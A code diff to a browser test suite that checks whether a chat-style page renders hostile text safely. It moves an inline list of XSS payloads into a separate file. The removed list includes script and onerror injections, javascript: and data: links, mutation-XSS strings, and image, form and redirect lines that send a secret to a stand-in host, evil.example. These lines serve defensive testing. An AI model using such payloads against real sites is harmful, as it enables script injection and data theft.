@@ -2,42 +2,7 @@ import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { type Stage, stageArena } from "../running-arena.ts";
 import { browserPath, launchBrowser, openPage, type Watched } from "./browser.ts";
-
-/** What a page must never act on, wherever it stands: ../../../src/arena/page/markdown has its own, longer list. */
-const payloads = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  '<img src="https://evil.example/?q=SECRET">',
-  "<svg/onload=alert(1)>",
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example/x.swf"></object>',
-  '<form action="https://evil.example"><button>Go</button></form>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  "<style>@import 'https://evil.example/x.css';</style>",
-  '<link rel="prefetch" href="https://evil.example/x">',
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt&#58;alert(1))",
-  "[x](&#1;javascript:alert(1))",
-  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "![x](https://evil.example/?q=SECRET)",
-  "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
-  "| ![x](https://evil.example/?q=1) |\n|---|\n| y |",
-  "text[^1]\n\n[^1]: ![x](https://evil.example/?q=1)",
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  "<!--><img src=x onerror=alert(1)>-->",
-  "```\n<img src=x onerror=alert(1)>",
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```mermaid\nclick A "javascript:alert(1)"\n```',
-  "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.example}$",
-  "user‮gnp.exe",
-  "<a id=config></a><form name=document>",
-  "[https://bank.example](https://evil.example)",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  "<video><source onerror=alert(1)></video>",
-];
+import { payloads } from "./payloads.ts";
 
 /** Elements and attributes by which a text could do something. */
 const findDanger = () => {
@@ -90,7 +55,7 @@ describe.skipIf(!browserPath)("hostile words in the browser (S15)", () => {
         (turns) =>
           document.querySelectorAll(".turn").length === turns &&
           document.querySelectorAll('[data-status="done"]').length === 2 * turns,
-        (i % 40) + 1,
+        i + 1,
       );
       expect(await page.evaluate(findDanger), payload).toEqual([]);
     }
